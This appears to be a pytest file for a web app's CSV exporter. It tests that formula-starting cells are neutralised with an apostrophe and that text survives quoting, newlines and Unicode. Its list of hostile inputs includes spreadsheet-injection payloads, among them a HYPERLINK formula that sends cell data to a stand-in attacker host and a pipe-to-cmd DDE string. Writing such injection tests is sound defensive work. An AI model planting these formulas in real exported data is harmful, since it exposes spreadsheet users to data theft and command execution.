"""CSV: cells that mean what the record says, and that no spreadsheet runs."""

import csv
import json
import re
from io import StringIO
from typing import Any

import pytest

from app.formats.csv import FORMULA_STARTS, Csv, cells_of
from app.resources import RESOURCES
from app.resources.base import Answer, NamedLink, TitledLink
from app.resources.dates import EdtfOut
from app.resources.quotes import QuoteOut
from tests.formats.documents import document


class Part(Answer):
    id: str
    text: str


class Thing(Answer):
    id: str
    text: str | None
    size: int | None
    share: float | None
    sure: bool | None
    on: EdtfOut | None
    by: NamedLink | None
    among: list[NamedLink]
    meeting: TitledLink | None
    tags: list[str]
    parts: list[Part]


EMPTY: dict[str, Any] = {
    **dict.fromkeys(("text", "size", "share", "sure", "on", "by", "meeting")),
    "among": [],
    "tags": [],
    "parts": [],
}
HOSTILE = [
    "=1+1",
    '=HYPERLINK("http://evil.example?x="&A1,"click")',
    "+1",
    "-1+1|cmd",
    "@SUM(A1)",
    "\t=1+1",
    "\r=1+1",
    'she said "no", twice',
    "one, two; three",
    "first\r\nsecond\nthird\rfourth",
    "💥 é e\u0301",
    "\u202eright to left\u202c שלום",
    "'quoted",
    "line\u2028separator",
    "\\u0000 \\n",
    " =1",
    "null",
    "",
]


def thing(**fields: Any) -> bytes:
    return json.dumps({"id": "t", **EMPTY, **fields}).encode()


def rows(*items: bytes, fields: tuple[str, ...] = ()) -> list[dict[str, str]]:
    text = Csv().render(document(Thing, items, fields=fields)).decode()
    return list(csv.DictReader(StringIO(text, newline=""), strict=True))


@pytest.mark.parametrize("text", HOSTILE)
def test_no_cell_begins_a_formula_and_no_text_is_lost(text: str) -> None:
    link = {"id": "a", "name": text, "href": "/participants/a"}
    (row,) = rows(
        thing(text=text, by=link, among=[link], tags=[text], parts=[{"id": "p", "text": text}])
    )
    assert None not in row
    for cell in row.values():
        assert not cell.startswith(FORMULA_STARTS)
    expected = f"'{text}" if text.startswith(FORMULA_STARTS) else text
    assert row["text"] == row["by_name"] == row["among_names"] == row["tags"] == expected
    assert json.loads(row["parts"]) == [{"id": "p", "text": text}]


@pytest.mark.parametrize("text", [*HOSTILE, "nul \0 within", "\r", '"', ",", "plain", "A", "ä"])
def test_cells_are_written_as_the_standard_library_writes_them(text: str) -> None:
    link = {"id": text, "name": text, "href": "/p/a"}
    when = {"edtf": "2022-01?", "earliest": "2022-01-01", "latest": "2022-01-31"}
    part = {"id": "p", "text": text}
    fields = {"size": 7, "share": 0.5, "sure": True, "on": when, "by": link}
    item = thing(text=text, among=[link, link], tags=[text, "b"], parts=[part], **fields)
    expected = StringIO()
    written = json.dumps([part], ensure_ascii=False, separators=(",", ":"))
    twice, tags = f"{text}; {text}", f"{text}; b"
    texts = [f"'{one}" if one.startswith(FORMULA_STARTS) else one for one in (text, twice, tags)]
    own, both, tagged = texts
    dates = ["2022-01?", "2022-01-01", "2022-01-31"]
    row = ["t", own, 7, 0.5, "true", *dates, own, own, both, both, None, None, tagged, written]
    csv.writer(expected, lineterminator="\r\n").writerow(row)
    body = Csv().render(document(Thing, [item]))
    assert body.partition(b"\r\n")[2] == expected.getvalue().encode()


@pytest.mark.parametrize("text", ["=1", "'=1", "''-1", "'\t", "'quoted", "''", "'"])
def test_taking_away_the_apostrophe_gives_the_text_back(text: str) -> None:
    (row,) = rows(thing(text=text))
    assert re.sub("^'('*[-=+@\t\r])", r"\1", row["text"]) == text


def test_numbers_stay_numbers_whatever_they_begin_with() -> None:
    (row,) = rows(thing(size=-5, share=-0.25, sure=False))
    assert (row["size"], row["share"], row["sure"]) == ("-5", "-0.25", "false")
    assert rows(thing(sure=True))[0]["sure"] == "true"


def test_a_record_takes_one_row_that_ends_as_rfc_4180_says() -> None:
    body = Csv().render(document(Thing, [thing(text="a\nb"), thing(text="c")]))
    assert body.count(b"\r\n") == 3
    assert body.endswith(b"\r\n")
    assert len(rows(thing(text="a\nb"), thing(text="c"))) == 2


def test_links_dates_and_lists_have_columns_of_their_own() -> None:
    when = {"edtf": "2022-01~", "earliest": "2022-01-01", "latest": None}
    one, two = ({"id": name, "name": name.title(), "href": f"/p/{name}"} for name in ("a", "b"))
    meeting = {"id": "m", "title": "M", "href": "/meetings/m"}
    (row,) = rows(thing(on=when, among=[one, two], meeting=meeting, tags=["x", "y"]))
    assert (row["on"], row["on_earliest"], row["on_latest"]) == ("2022-01~", "2022-01-01", "")
    assert (row["among_ids"], row["among_names"]) == ("a; b", "A; B")
    assert (row["meeting_id"], row["meeting_title"]) == ("m", "M")
    assert row["by_id"] == row["by_name"] == row["parts"] == row["size"] == ""
    assert row["tags"] == "x; y"


def test_fields_choose_columns_in_the_order_of_the_record() -> None:
    assert list(rows(thing(), fields=("by", "id"))[0]) == ["id", "by_id", "by_name"]


def test_a_row_with_one_empty_cell_is_still_a_row() -> None:
    assert rows(thing(), fields=("text",)) == [{"text": ""}]


@pytest.mark.parametrize("shape", [*(resource.out for resource in RESOURCES), QuoteOut])
def test_columns_of_every_noun_have_names_of_their_own(shape: type[Answer]) -> None:
    names = [name for cells in cells_of(shape) for name in cells.names]
    assert len(names) == len(set(names))
    fields = {declared.alias or name for name, declared in shape.model_fields.items()}
    assert {cells.field for cells in cells_of(shape)} == fields
    assert names[0] == "id"
